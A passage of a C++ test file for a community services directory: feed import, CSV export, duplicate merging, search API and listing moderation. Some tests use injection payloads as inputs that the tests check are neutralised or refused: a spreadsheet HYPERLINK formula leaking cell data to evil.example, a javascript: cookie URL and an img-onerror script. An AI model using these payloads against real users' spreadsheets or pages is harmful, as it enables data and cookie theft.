// The directory on both backends: importing feeds (what is taken, what is refused
// and why, repeated imports) and the Open Referral UK API on the real server.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

#include "core/csv.h"
#include "core/text.h"
#include "directory/demo.h"
#include "directory/directory_store.h"
#include "directory/export.h"
#include "directory/importer.h"
#include "directory/moderation.h"
#include "directory/search_index.h"
#include "store/migrate.h"
#include "support/harness.h"

namespace kith {
namespace {

using directory::FeedFormat;
using directory::Json;
using testing::contains;

class DirectoryStoreTest : public testing::FreshDatabaseTest {
 protected:
  directory::ImportReport import(const Json& feed) {
    store::Transaction tx(db(), true);
    auto r = directory::import_feed(db(), feed, FeedFormat::kAuto, "test", {});
    tx.commit();
    return r;
  }
  std::int64_t count(const std::string& table) { return directory::DirectoryStore(db()).count(table); }
};

TEST_P(DirectoryStoreTest, RepeatedImportsUpdateRatherThanDuplicate) {
  auto first = import(directory::demo_feed());
  EXPECT_TRUE(first.problems.empty());
  EXPECT_EQ(first.added, first.records);
  auto services = count("service"), schedules = count("schedule"), locations = count("location");
  EXPECT_EQ(services, 9);
  auto second = import(directory::demo_feed());
  EXPECT_EQ(second.added, 0);
  EXPECT_EQ(second.updated, second.records);
  EXPECT_EQ(count("service"), services);
  EXPECT_EQ(count("schedule"), schedules);
  EXPECT_EQ(count("location"), locations);
  EXPECT_EQ(count("service_at_location"), 9);  // a location shared by two services keeps both
}

TEST_P(DirectoryStoreTest, AReimportDropsWhatTheFeedNoLongerLists) {
  Json feed = directory::demo_feed();
  import(feed);
  for (auto& record : feed)
    if (record.contains("schedules")) record["schedules"] = Json::array();
  import(feed);
  EXPECT_EQ(count("schedule"), 0);
  EXPECT_EQ(count("service"), 9);
}

TEST_P(DirectoryStoreTest, BadRecordsAreReportedAndTheRestTaken) {
  Json feed = Json::array({
      {{"id", "a1"}, {"name", "Good group"}, {"status", "active"}},
      {{"id", "a2"}, {"name", ""}, {"status", "active"}},
      {{"id", "a3"}, {"name", "Bad age"}, {"status", "active"}, {"minimum_age", "teenagers"}},
      {{"id", "a4"},
       {"name", "Far away"},
       {"status", "active"},
       {"service_at_locations",
        Json::array({{{"id", "sal4"}, {"location", {{"id", "l4"}, {"latitude", 100}, {"longitude", 0}}}}})}},
      {{"id", "a5"},
       {"name", "Unknown term"},
       {"status", "active"},
       {"attributes", Json::array({{{"id", "att5"}, {"taxonomy_term_id", "no-such-term"}}})}},
      "not a record",
  });
  auto r = import(feed);
  EXPECT_EQ(r.records, 6);
  EXPECT_EQ(r.added, 2);
  ASSERT_EQ(r.problems.size(), 4u);
  EXPECT_EQ(r.problems[0].message, "has no name");
  EXPECT_EQ(r.problems[1].message, "minimum_age should be a number, not \"teenagers\"");
  EXPECT_EQ(r.problems[2].message, "names an unknown taxonomy term no-such-term");
  EXPECT_NE(r.problems[3].message.find("not an HSDS record"), std::string::npos);
  // One impossible nested value costs the location its point, not the record.
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0].where, "record 4: location l4");
  EXPECT_EQ(r.warnings[0].message, "latitude 100 is not between -90 and 90; its latitude and longitude were left out");
  EXPECT_EQ(count("service"), 2);
  EXPECT_EQ(count("location"), 1);
  EXPECT_FALSE(db().query_one("SELECT 1 FROM hsds_location WHERE id = 'l4' AND latitude IS NOT NULL"));
  EXPECT_EQ(count("attribute"), 0);
}

TEST_P(DirectoryStoreTest, TheBristolFeedImportsWithItsProblemsListed) {
  std::ifstream in(testing::source_data() + "/directory_feeds/bristol_council_oruk_v1_services_2024-12.json");
  auto r = import(Json::parse(in));
  EXPECT_EQ(r.format, "Open Referral UK 1.0");
  EXPECT_EQ(r.records, 819);
  EXPECT_EQ(r.problems.size(), 1u);  // the one service with no name
  EXPECT_EQ(r.added + r.updated + static_cast<int>(r.problems.size()), 819);
  EXPECT_EQ(count("service"), r.added);
  auto desc = db().query_one("SELECT description FROM hsds_service WHERE description LIKE '%<p>%'");
  EXPECT_FALSE(desc) << "HTML should be stripped from descriptions";
}

TEST_P(DirectoryStoreTest, TheHsdsTabularFormImportsTableByTable) {
  store::Transaction tx(db(), true);
  auto r = directory::import_tabular(db(), testing::source_data() + "/openreferral/hsds3/examples/csv", "csv", {});
  tx.commit();
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(count("service"), 1);
  EXPECT_EQ(count("schedule"), 1);
  EXPECT_EQ(count("organization"), 1);
  EXPECT_EQ(count("location"), 1);  // taken without its point: the example's latitude is 100
  EXPECT_TRUE(r->problems.empty());
  ASSERT_EQ(r->warnings.size(), 1u);
  EXPECT_EQ(r->warnings[0].where, "locations.csv line 2");
  EXPECT_EQ(r->warnings[0].message, "latitude 100 is not between -90 and 90; its latitude and longitude were left out");
  auto service = directory::DirectoryStore(db()).document(directory::service_full(),
                                                          db().query_one("SELECT id FROM hsds_service")->text(0));
  ASSERT_TRUE(service);
  EXPECT_EQ((*service)["schedules"].size(), 1u);
  EXPECT_FALSE((*service)["organization"]["name"].get<std::string>().empty());
}

TEST_P(DirectoryStoreTest, ASpreadsheetOfPlacesImportsWithAColumnMapping) {
  import(directory::demo_feed());
  const std::string sheet =
      "Group name,What it is,Post code,Type,Day,Start,Finish,Lat,Lng\n"
      "Grays Book Club,Monthly book chat,RM17 5AB,Reading,Tuesday,19:00,21:00,,\n"
      "Chess in the Park,,RM18 8AD,places to meet,Sat & Sun,10:00,12:00,51.46,0.36\n"
      ",,,,,,,,\n"
      "Bad postcode group,,XX1,,,,,,\n"
      "Late club,,RM17 5AB,,Friday,25:00,,,\n";
  auto run = [&] {
    std::map<std::string, std::string> terms;
    for (const auto& r : db().query("SELECT id, name FROM hsds_taxonomy_term")) terms[to_lower(r.text(1))] = r.text(0);
    std::istringstream in(sheet);
    std::vector<directory::Problem> problems;
    Json feed = directory::spreadsheet_to_feed(in, {{"description", "What it is"}}, terms, problems);
    EXPECT_EQ(problems.size(), 2u);
    if (problems.size() == 2u) {
      EXPECT_EQ(problems[0].where, "line 5 (Bad postcode group)");
      EXPECT_EQ(problems[0].message, "postcode \"XX1\" is not a postcode");
      EXPECT_EQ(problems[1].message, "opens_at \"25:00\" is not a time like 10:00");
    }
    return import(feed);
  };
  auto first = run();
  EXPECT_TRUE(first.problems.empty());
  EXPECT_EQ(count("service"), 11);
  auto second = run();
  EXPECT_EQ(second.added, 0);  // matched on name and postcode
  EXPECT_EQ(count("service"), 11);
  auto chess = db().query_one(
      "SELECT t.name, sc.byday, l.latitude FROM hsds_service s JOIN hsds_attribute a ON a.link_id = s.id "
      "JOIN hsds_taxonomy_term t ON t.id = a.taxonomy_term_id JOIN hsds_schedule sc ON sc.service_id = s.id "
      "JOIN hsds_service_at_location sal ON sal.service_id = s.id JOIN hsds_location l ON l.id = sal.location_id "
      "WHERE s.name = 'Chess in the Park'");
  ASSERT_TRUE(chess);
  EXPECT_EQ(chess->text(0), "Places to meet");  // an existing category, matched by name
  EXPECT_EQ(chess->text(1), "SA,SU");
  EXPECT_DOUBLE_EQ(chess->real(2), 51.46);
  auto reading = db().query_one(
      "SELECT t.name, x.name FROM hsds_taxonomy_term t JOIN hsds_taxonomy x ON x.id = "
      "t.taxonomy_id WHERE t.name = 'Reading'");
  ASSERT_TRUE(reading);
  EXPECT_EQ(reading->text(1), "Local categories");
}

TEST_P(DirectoryStoreTest, AnUnreadableFileChangesNothing) {
  std::string path = ::testing::TempDir() + "/broken-feed.json";
  std::ofstream(path) << "[{\"id\": \"x\", \"name\": \"Half\"";
  auto r = directory::import_file(*database, path, FeedFormat::kAuto, {});
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, "bad-json");
  EXPECT_EQ(count("service"), 0);
}

// Found by tests/fuzz/fuzz_tabular: a cell that is not UTF-8 threw out of the import
// (and "nan" was taken as a coordinate); each is now a reported row.
TEST_P(DirectoryStoreTest, TabularRowsThatAreNotUtf8OrHaveNoNumberAreReported) {
  std::string folder = ::testing::TempDir() + "/tabular-bad-rows";
  std::filesystem::create_directories(folder);
  std::ofstream(folder + "/services.csv") << "id,name,status,minimum_age\n"
                                          << "s1,Caf\xE9 club,active,\n"
                                          << "s2,Good club,active,inf\n"
                                          << "s3,Lunch club,active,8\n";
  std::ofstream(folder + "/locations.csv") << "id,name,latitude,longitude\nl1,Hall,nan,0\n";
  store::Transaction tx(db(), true);
  auto r = directory::import_tabular(db(), folder, "csv", {});
  tx.commit();
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->records, 4);
  EXPECT_EQ(r->added, 1);
  ASSERT_EQ(r->problems.size(), 3u);
  EXPECT_EQ(r->problems[0].where, "services.csv line 2");
  EXPECT_EQ(r->problems[0].message, "is not UTF-8 text: save the file as \"CSV UTF-8\" and import it again");
  EXPECT_EQ(r->problems[1].where, "services.csv line 3");
  EXPECT_EQ(r->problems[1].message, "minimum_age should be a number, not \"inf\"");
  EXPECT_EQ(r->problems[2].where, "locations.csv line 2");
  EXPECT_EQ(r->problems[2].message, "latitude should be a number, not \"nan\"");
  EXPECT_EQ(count("service"), 1);
  EXPECT_EQ(count("location"), 0);
}

TEST_P(DirectoryStoreTest, ExportsRoundTripAndOpenInOtherTools) {
  import(directory::demo_feed());
  std::ostringstream hsds, csv, geojson;
  directory::export_hsds(db(), hsds);
  directory::export_csv(db(), csv);
  directory::export_geojson(db(), geojson);

  Json services = Json::parse(hsds.str());
  ASSERT_EQ(services.size(), 9u);
  auto again = import(services);  // what Kith exports, Kith (and any HSDS reader) imports
  EXPECT_TRUE(again.problems.empty());
  EXPECT_EQ(again.updated, 9);
  EXPECT_EQ(again.added, 0);
  EXPECT_EQ(count("schedule"), 9);

  std::istringstream in(csv.str());
  CsvReader reader(in);
  auto header = reader.header();
  std::vector<std::string> row;
  int rows = 0;
  bool found_warm_space = false;
  while (reader.next(row)) {
    ++rows;
    if (row[header["name"]] == "Tuesday Warm Space (demo)") {
      found_warm_space = true;
      EXPECT_EQ(row[header["when"]], "Tuesdays, 10am to 2pm");
      EXPECT_EQ(row[header["postcode"]], "S10 2FD");
      EXPECT_EQ(row[header["categories"]], "Places to meet");
    }
  }
  EXPECT_EQ(rows, 9);
  EXPECT_TRUE(found_warm_space);

  Json places = Json::parse(geojson.str());
  EXPECT_EQ(places["features"].size(), 8u);  // two services share the Broomhall Centre
  for (const auto& f : places["features"]) {
    EXPECT_EQ(f["geometry"]["type"], "Point");
    if (f["properties"]["name"] == "Broomhall Centre") EXPECT_EQ(f["properties"]["services"].size(), 2u);
  }
}

// The demo's Tuesday Warm Space as another feed lists it: its own id, the name in
// other case and spacing, the same postcode.
Json same_warm_space_from_another_feed(const std::string& id, const std::string& name) {
  return Json::array(
      {{{"id", id},
        {"name", name},
        {"description", "From the hub's own spreadsheet."},
        {"status", "active"},
        {"service_at_locations", Json::array({{{"id", id + "/at"},
                                               {"location",
                                                {{"id", id + "/place"},
                                                 {"name", "Broomhall Centre"},
                                                 {"latitude", 53.37823},
                                                 {"longitude", -1.48770},
                                                 {"addresses", Json::array({{{"id", id + "/address"},
                                                                             {"address_1", "Broomspring Lane"},
                                                                             {"city", "Sheffield"},
                                                                             {"postal_code", "s10 2fd"},
                                                                             {"country", "GB"}}})}}}}})}}});
}

TEST_P(DirectoryStoreTest, TheCsvExportCarriesNoFormulaAndKeepsNumbersAsNumbers) {
  const std::string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
  auto report = import(same_warm_space_from_another_feed("formula-feed-1", formula));
  ASSERT_TRUE(report.problems.empty());
  std::ostringstream csv;
  directory::export_csv(db(), csv);  // what `kith export directory --format csv` writes
  std::istringstream in(csv.str());
  CsvReader reader(in);
  auto header = reader.header();
  std::vector<std::string> row;
  int rows = 0;
  while (reader.next(row)) {
    ++rows;
    for (const auto& cell : row) EXPECT_FALSE(csv_formula(cell)) << cell;
    EXPECT_EQ(row[header["name"]], "'" + formula);
    EXPECT_EQ(row[header["longitude"]].substr(0, 2), "-1");  // a negative number, still a number
  }
  EXPECT_EQ(rows, 1);
}

TEST_P(DirectoryStoreTest, AnotherFeedListingTheSameServiceUpdatesItByNameAndPostcode) {
  import(directory::demo_feed());
  auto r = import(same_warm_space_from_another_feed("hub-sheet-1", "  tuesday warm SPACE (demo) "));
  EXPECT_EQ(r.added, 0);
  EXPECT_EQ(r.updated, 1);
  EXPECT_EQ(r.matched, 1);
  EXPECT_EQ(count("service"), 9);
  directory::DirectoryStore store(db());
  EXPECT_FALSE(store.row("service", "hub-sheet-1"));
  auto same = store.same_service("Tuesday Warm Space (demo)", {"S102FD"});
  ASSERT_TRUE(same);
  EXPECT_EQ(directory::text_of(*store.row("service", *same), "description"), "From the hub's own spreadsheet.");
  // A different postcode is a different service.
  auto elsewhere = same_warm_space_from_another_feed("hub-sheet-2", "Tuesday Warm Space (demo)");
  elsewhere[0]["service_at_locations"][0]["location"]["addresses"][0]["postal_code"] = "S11 8SP";
  EXPECT_EQ(import(elsewhere).added, 1);
  EXPECT_EQ(count("service"), 10);
}

TEST_P(DirectoryStoreTest, TheSearchIndexReadsWhatTheStoreHolds) {
  directory::DirectoryStore store(db());
  auto before = store.generation();
  import(directory::demo_feed());
  EXPECT_GT(store.generation(), before);  // an import tells every server's index to rebuild
  directory::SearchIndex index(store.index_data());
  EXPECT_EQ(index.size(), 9u);
  directory::ServiceQuery q;
  q.access = directory::kHearingLoop;
  auto found = index.search(q, std::nullopt);
  std::vector<std::string> names;
  for (const auto& h : found.hits) names.push_back(index.name(h.doc));
  EXPECT_EQ(names, (std::vector<std::string>{"Chatty Cafe for older people (demo)", "Money advice drop-in (demo)",
                                             "Tuesday Warm Space (demo)"}));
  q = {};
  q.free_only = true;
  q.day = "TU";
  q.words = {"warm"};
  ASSERT_EQ(index.search(q, std::nullopt).total, 1);
}

TEST_P(DirectoryStoreTest, SuspectedDuplicatesAreMergedOrDismissedWithAnAuditTrail) {
  import(directory::demo_feed());
  {
    // Named a little differently, so the import does not take it as the same.
    store::Transaction tx(db(), true);
    directory::import_feed(db(), same_warm_space_from_another_feed("hub-sheet-1", "Broomhall Tuesday Warm Space"),
                           FeedFormat::kAuto, "hub spreadsheet", {});
    tx.commit();
  }
  auto pairs = directory::suspected_duplicates(db());
  ASSERT_EQ(pairs.size(), 1u);
  EXPECT_NE(pairs[0].reason.find("Similar names at the same postcode; listed by different imports"), std::string::npos)
      << pairs[0].reason;
  std::string demo = pairs[0].a == "hub-sheet-1" ? pairs[0].b : pairs[0].a;
  auto actor = audit::Actor::system("test moderator");
  {
    store::Transaction tx(db(), true);
    ASSERT_TRUE(directory::not_duplicates(db(), actor, "hub-sheet-1", demo));
    tx.commit();
  }
  EXPECT_TRUE(directory::suspected_duplicates(db()).empty());
  {
    store::Transaction tx(db(), true);
    EXPECT_FALSE(directory::merge_duplicates(db(), actor, demo, demo));
    ASSERT_TRUE(directory::merge_duplicates(db(), actor, demo, "hub-sheet-1"));
    tx.commit();
  }
  EXPECT_EQ(count("service"), 9);
  EXPECT_EQ(db().scalar("SELECT COUNT(*) FROM hsds_service_at_location WHERE service_id = 'hub-sheet-1'"), 0);
  EXPECT_EQ(db().scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'directory.duplicate.merge' AND "
                        "entity_id = 'hub-sheet-1'"),
            1);
}

INSTANTIATE_TEST_SUITE_P(Backends, DirectoryStoreTest, ::testing::ValuesIn(testing::backends()), testing::backend_name);

class DirectoryApiTest : public ::testing::TestWithParam<std::string> {
 protected:
  testing::Browser browser() { return testing::shared_server(GetParam()).browser(); }
  Json get(const std::string& path, int status = 200) {
    auto r = browser().get(path);
    EXPECT_EQ(r.status, status) << path << ": " << r.body;
    EXPECT_EQ(r.header("Access-Control-Allow-Origin"), "*") << path;
    return r.json();
  }
  // Kith's own API (no cross-origin header, unlike the Open Referral UK API).
  Json api(const std::string& path, int status = 200) {
    auto r = browser().get(path);
    EXPECT_EQ(r.status, status) << path << ": " << r.body;
    return r.json();
  }
  // The names of the nine sample listings (directory::demo_feed) a search finds, in
  // order: the demo place's own listings around them change as it grows.
  std::vector<std::string> demo_names(const std::string& path) {
    static const std::set<std::string> samples = [] {
      std::set<std::string> out;
      const Json feed = directory::demo_feed();
      for (const auto& r : feed)
        if (r.contains("service_at_locations")) out.insert(r["name"].get<std::string>());
      return out;
    }();
    std::vector<std::string> out;
    Json page = get(path);
    for (const auto& item : page["contents"]) {
      const Json& s = item.contains("service") ? item["service"] : item;
      std::string name = s["name"];
      if (samples.count(name)) out.push_back(name);
    }
    return out;
  }
};

TEST_P(DirectoryApiTest, RootNamesTheProfile) { EXPECT_EQ(get("/oruk")["version"], "HSDS-UK-3.0"); }

TEST_P(DirectoryApiTest, SearchFiltersByWordsCategoryDayAndAge) {
  EXPECT_EQ(demo_names("/oruk/services?per_page=1000&search=warm%20space"),
            std::vector<std::string>{"Tuesday Warm Space (demo)"});
  EXPECT_EQ(demo_names("/oruk/services?per_page=1000&taxonomy_term_id=" + directory::demo_term_id("food")),
            (std::vector<std::string>{"Grays Community Kitchen (demo)", "Sharrow Food Pantry (demo)"}));
  EXPECT_EQ(demo_names("/oruk/services?per_page=1000&day=FR"),
            (std::vector<std::string>{"Grays Community Kitchen (demo)", "Stay and Play (demo)"}));
  EXPECT_EQ(demo_names("/oruk/services?per_page=1000&minimum_age=60"),
            std::vector<std::string>{"Chatty Cafe for older people (demo)"});
  EXPECT_EQ(demo_names("/oruk/services?per_page=1000&maximum_age=4"), std::vector<std::string>{"Stay and Play (demo)"});
  EXPECT_EQ(demo_names("/oruk/services?per_page=1000&start_time=18:00"),
            std::vector<std::string>{"Tilbury Youth Club (demo)"});
  // Every demo listing has a demo category: the samples, the libraries, the food banks and the made-up groups.
  EXPECT_GE(get("/oruk/services?taxonomy_id=" + directory::demo_taxonomy_id())["total_items"].get<int>(), 250);
}

TEST_P(DirectoryApiTest, PostcodeAndProximityFindTheNearestFirst) {
  EXPECT_EQ(demo_names("/oruk/service_at_locations?per_page=1000&postcode=S10%202FD&proximity=3000"),
            (std::vector<std::string>{"Chatty Cafe for older people (demo)", "Tuesday Warm Space (demo)",
                                      "Sharrow Food Pantry (demo)"}));
  EXPECT_GT(get("/oruk/service_at_locations?postcode=S10%202FD&proximity=3000")["total_items"].get<int>(), 10);
  EXPECT_EQ(demo_names("/oruk/service_at_locations?per_page=1000&postcode=S10%202FD&proximity=100"),
            (std::vector<std::string>{"Chatty Cafe for older people (demo)", "Tuesday Warm Space (demo)"}));
}

TEST_P(DirectoryApiTest, PagesWalkTheWholeList) {
  Json first = get("/oruk/services?per_page=100");
  std::int64_t total = first["total_items"];
  std::int64_t pages = first["total_pages"];
  EXPECT_EQ(pages, (total + 99) / 100);
  std::set<std::string> ids;
  for (int p = 1; p <= pages; ++p) {
    Json page = get("/oruk/services?per_page=100&page=" + std::to_string(p));
    for (const auto& s : page["contents"]) ids.insert(s["id"].get<std::string>());
  }
  EXPECT_EQ(static_cast<std::int64_t>(ids.size()), total);
  Json last = get("/oruk/services?per_page=100&page=" + std::to_string(pages));
  EXPECT_EQ(last["last_page"], true);
  EXPECT_EQ(last["first_page"], false);
}

TEST_P(DirectoryApiTest, BadParametersAreNamed) {
  Json p = get("/oruk/service_at_locations?proximity=-1&postcode=S10%202FD&page=0", 422);
  EXPECT_EQ(p["code"], "validation-failed");
  std::set<std::string> fields;
  for (const auto& e : p["errors"]) fields.insert(e["field"]);
  EXPECT_EQ(fields, (std::set<std::string>{"page", "proximity"}));
  Json past = get("/oruk/services?page=99999", 422);
  EXPECT_EQ(past["errors"][0]["field"], "page");
  Json unknown = get("/oruk/service_at_locations?postcode=ZZ99%209ZZ&proximity=500", 422);
  EXPECT_EQ(unknown["errors"][0]["message"], "The postcode ZZ99 9ZZ was not found");
  // A date that is not one is named, whatever it looks like.
  for (const char* m : {"2026-13-45T99:99", "garbage", "2026-02-30"}) {
    Json when = get(std::string("/oruk/services?modified_after=") + m, 422);
    EXPECT_EQ(when["errors"][0]["field"], "modified_after") << m;
  }
  EXPECT_TRUE(get("/oruk/services?modified_after=2024-06-30T09:00:00Z", 200).contains("contents"));
  Json missing = get("/oruk/services/no-such-service", 404);
  EXPECT_EQ(missing["code"], "not-found");
  // The page says a hand-edited page number as it says one past the end, not as the API does.
  auto page = browser().get("/directory?search=lunch&page=abc");
  EXPECT_NE(page.body.find("There is no page abc of these results"), std::string::npos);
  EXPECT_EQ(page.body.find("whole number"), std::string::npos);
  // So are choices the form offers as lists, whatever the address says.
  auto far = browser().get("/directory?postcode=S10%202FD&proximity=far&time=midnight");
  EXPECT_NE(far.body.find("Choose a time of day from the list"), std::string::npos);
  EXPECT_EQ(far.body.find("must be"), std::string::npos);
  auto distance = browser().get("/directory?postcode=S10%202FD&proximity=far");
  EXPECT_NE(distance.body.find("Choose how far from the postcode to search"), std::string::npos);
  EXPECT_EQ(distance.body.find("metres"), std::string::npos);
}

TEST_P(DirectoryApiTest, AServiceComesWithItsLocationsScheduleAndCategory) {
  Json page = get("/oruk/services?search=halesowen%20men%27s%20shed");
  ASSERT_EQ(page["contents"].size(), 1u);
  Json s = get("/oruk/services/" + page["contents"][0]["id"].get<std::string>());
  EXPECT_EQ(s["schedules"][0]["byday"], "MO,WE");
  EXPECT_EQ(s["attributes"][0]["taxonomy_term"]["name"], "Places to meet");
  EXPECT_EQ(s["service_at_locations"][0]["location"]["addresses"][0]["postal_code"], "B63 3ET");
  EXPECT_EQ(s["organization"]["name"], "Halesowen Men's Shed (demo)");
}

// A group added in Welsh keeps its language: its name and description are marked
// lang="cy" on its page, in search results and on its organisation's page, whatever
// language the page around them is in; a feed's listings are English.
TEST_P(DirectoryApiTest, AListingKeepsTheLanguageItWasWrittenIn) {
  auto resident = browser();
  const std::string name = "Clwb Cinio " + GetParam();
  Json listing = {{"name", name},
                  {"description", "Cinio poeth a sgwrs bob dydd Mercher."},
                  {"address_1", "Dudley Library"},
                  {"town", "Dudley"},
                  {"postcode", "DY1 3PT"},
                  {"language", "xx"}};
  auto unknown = resident.post_json("/api/v1/directory/add", listing);
  EXPECT_EQ(unknown.status, 422);
  EXPECT_EQ(unknown.json()["errors"][0]["field"], "language") << unknown.body;
  EXPECT_TRUE(contains(resident.get("/directory/add?lang=cy").body, "<option value=\"cy\" lang=\"cy\" selected>"))
      << "a Welsh page offers Welsh first";
  listing["language"] = "cy";
  auto added = resident.post_json("/api/v1/directory/add", listing);
  ASSERT_EQ(added.status, 201) << added.body;
  std::string submission = std::to_string(added.json()["submission_id"].get<std::int64_t>());
  auto moderator = browser();
  moderator.sign_in("moderator@demo.kith.test", "kith-demo-moderator");
  EXPECT_TRUE(contains(moderator.get("/moderate/directory/" + submission).body, "Cymraeg"));
  ASSERT_EQ(moderator.post_json("/api/v1/moderate/directory/" + submission, {{"decision", "approve"}}).status, 200);

  Json found = get("/oruk/services?search=" + url_encode(name));
  ASSERT_EQ(found["total_items"], 1);
  std::string id = found["contents"][0]["id"];
  auto page = browser().get("/directory/services/" + id).body;
  EXPECT_TRUE(contains(page, "<h1 class=\"govuk-heading-l\" lang=\"cy\" dir=\"ltr\">" + name + "</h1>")) << page;
  EXPECT_TRUE(contains(page, "lang=\"cy\" dir=\"ltr\">Cinio poeth"));
  auto results = browser().get("/directory?search=" + url_encode(name)).body;
  EXPECT_TRUE(contains(results, "lang=\"cy\" dir=\"ltr\">" + name + "</a>")) << results;
  std::string organisation = found["contents"][0]["organization"]["id"];
  EXPECT_TRUE(
      contains(browser().get("/directory/organisations/" + organisation).body, "lang=\"cy\" dir=\"ltr\">" + name));
  // A feed's listing, on a Welsh page, is marked English.
  Json feed = get("/oruk/services?search=library&per_page=1");
  ASSERT_GE(feed["total_items"].get<int>(), 1);
  auto english = browser().get("/directory/services/" + feed["contents"][0]["id"].get<std::string>() + "?lang=cy").body;
  EXPECT_TRUE(contains(english, "<h1 class=\"govuk-heading-l\" lang=\"en\" dir=\"ltr\">")) << english.substr(0, 3000);
}

TEST_P(DirectoryApiTest, ModeratorsApproveNewListingsAndChanges) {
  auto resident = browser();
  Json listing = {{"name", "Repair Cafe " + GetParam()},
                  {"description", "Bring broken things; volunteers help fix them."},
                  {"address_1", "Dudley Library"},
                  {"town", "Dudley"},
                  {"postcode", "dy1 3pt"},
                  {"days", {"SA"}},
                  {"opens_at", "10:00"},
                  {"closes_at", "13:00"},
                  {"contact_email", "fixer@example.org"}};
  auto added = resident.post_json("/api/v1/directory/add", listing);
  ASSERT_EQ(added.status, 201) << added.body;
  std::string new_id = std::to_string(added.json()["submission_id"].get<std::int64_t>());

  auto member = browser();
  member.sign_in("member@demo.kith.test", "kith-demo-member");
  EXPECT_EQ(member.get("/api/v1/moderate/directory").status, 403);

  auto moderator = browser();
  moderator.sign_in("moderator@demo.kith.test", "kith-demo-moderator");
  auto queue = moderator.get("/api/v1/moderate/directory").json();
  bool queued = false;
  for (const auto& s : queue["submissions"]) queued = queued || s["name"] == listing["name"];
  EXPECT_TRUE(queued);

  auto no_reason = moderator.post_json("/api/v1/moderate/directory/" + new_id, {{"decision", "reject"}});
  EXPECT_EQ(no_reason.status, 422);
  EXPECT_EQ(no_reason.json()["errors"][0]["field"], "reason");
  auto approved = moderator.post_json("/api/v1/moderate/directory/" + new_id, {{"decision", "approve"}});
  ASSERT_EQ(approved.status, 200) << approved.body;
  auto twice = moderator.post_json("/api/v1/moderate/directory/" + new_id, {{"decision", "approve"}});
  EXPECT_EQ(twice.status, 409);
  auto decided = moderator.get("/api/v1/moderate/directory/" + new_id).json();
  EXPECT_EQ(decided["status"], "approved");
  EXPECT_EQ(decided["contact_email"], "");  // personal data cleared once decided

  Json found = get("/oruk/services?search=" + url_encode(listing["name"].get<std::string>()));
  ASSERT_EQ(found["total_items"], 1);
  std::string service_id = found["contents"][0]["id"];
  Json service = get("/oruk/services/" + service_id);
  EXPECT_EQ(service["schedules"][0]["byday"], "SA");
  EXPECT_EQ(service["service_at_locations"][0]["location"]["addresses"][0]["postal_code"], "DY1 3PT");
  // The public page names no moderator, nor their address.
  auto page = browser().get("/directory/services/" + service_id);
  ASSERT_EQ(page.status, 200);
  EXPECT_EQ(page.body.find("moderator@demo.kith.test"), std::string::npos);
  EXPECT_NE(page.body.find("approved by a moderator"), std::string::npos);

  auto nothing =
      resident.post_json("/api/v1/directory/services/" + service_id + "/suggest", {{"name", listing["name"]}});
  EXPECT_EQ(nothing.status, 422);
  auto change = resident.post_json("/api/v1/directory/services/" + service_id + "/suggest",
                                   {{"name", "Dudley Repair Cafe " + GetParam()}, {"note", "It has a new name"}});
  ASSERT_EQ(change.status, 201) << change.body;
  std::string change_id = std::to_string(change.json()["submission_id"].get<std::int64_t>());
  auto view = moderator.get("/api/v1/moderate/directory/" + change_id).json();
  ASSERT_EQ(view["changes"].size(), 1u);
  EXPECT_EQ(view["changes"][0]["field"], "name");
  EXPECT_EQ(view["changes"][0]["now"], listing["name"]);
  ASSERT_EQ(moderator.post_json("/api/v1/moderate/directory/" + change_id, {{"decision", "approve"}}).status, 200);
  EXPECT_EQ(get("/oruk/services/" + service_id)["name"], "Dudley Repair Cafe " + GetParam());

  // Listings nobody has confirmed for a year are listed oldest first; marking one
  // checked takes it off the list.
  Json before = moderator.get("/api/v1/moderate/directory").json();
  ASSERT_FALSE(before["stale"].empty());
  std::string oldest = before["stale"][0]["href"].get<std::string>().substr(std::string("/directory/services/").size());
  ASSERT_EQ(moderator.post_json("/api/v1/moderate/directory/services/" + oldest + "/checked", Json::object()).status,
            200);
  Json after = moderator.get("/api/v1/moderate/directory").json();
  EXPECT_EQ(after["stale_total"], before["stale_total"].get<std::int64_t>() - 1);

  auto admin = browser();
  admin.sign_in("admin@demo.kith.test", "kith-demo-admin");
  auto log = admin.get("/api/v1/admin/audit?entity=directory_submission&entity_id=" + change_id).json();
  std::set<std::string> actions;
  for (const auto& e : log["entries"]) actions.insert(e["action"]);
  EXPECT_TRUE(actions.count("directory.submission.create"));
  EXPECT_TRUE(actions.count("directory.submission.approve"));
}

TEST_P(DirectoryApiTest, SuggestionsPassTheSameRulesAsANewListingAndAgainOnApproval) {
  Json page = get("/oruk/services?search=halesowen%20men%27s%20shed");
  ASSERT_EQ(page["contents"].size(), 1u);
  std::string service_id = page["contents"][0]["id"];
  auto url_of = [&](const Json& s) {
    return s.contains("url") && s["url"].is_string() ? s["url"].get<std::string>() : "";
  };
  std::string url_before = url_of(get("/oruk/services/" + service_id));
  std::string path = "/api/v1/directory/services/" + service_id + "/suggest";
  auto resident = browser();
  auto fields_of = [](const testing::HttpReply& r) {
    std::map<std::string, std::string> out;
    const Json body = r.json();
    for (const auto& e : body["errors"]) out[e["field"]] = e["message"];
    return out;
  };

  // A script address, a bad email, an overlong name and a bad contact email are each refused by name.
  auto script = resident.post_json(path, {{"url", "javascript:alert(document.cookie)"}, {"note", "New website"}});
  ASSERT_EQ(script.status, 422) << script.body;
  EXPECT_EQ(fields_of(script)["url"], "Enter a web address starting https://, like https://example.org");
  auto several = resident.post_json(path, {{"name", std::string(121, 'x')},
                                           {"email", "not an email"},
                                           {"url", "data:text/html,<b>hi</b>"},
                                           {"contact_email", "nobody"}});
  ASSERT_EQ(several.status, 422) << several.body;
  auto fields = fields_of(several);
  EXPECT_EQ(fields["name"], "Use 120 characters or fewer");
  EXPECT_EQ(fields["email"], "Enter an email address like name@example.com");
  EXPECT_TRUE(fields.count("url"));
  EXPECT_EQ(fields["contact_email"], "Enter an email address like name@example.com, or leave it blank");
  auto markup = resident.post_json(path, {{"name", "Club \"><img src=x onerror=alert(1)>"}, {"note", "Renamed"}});
  ASSERT_EQ(markup.status, 422) << markup.body;
  EXPECT_EQ(fields_of(markup)["name"], "Write it as plain text, without HTML such as <script>");
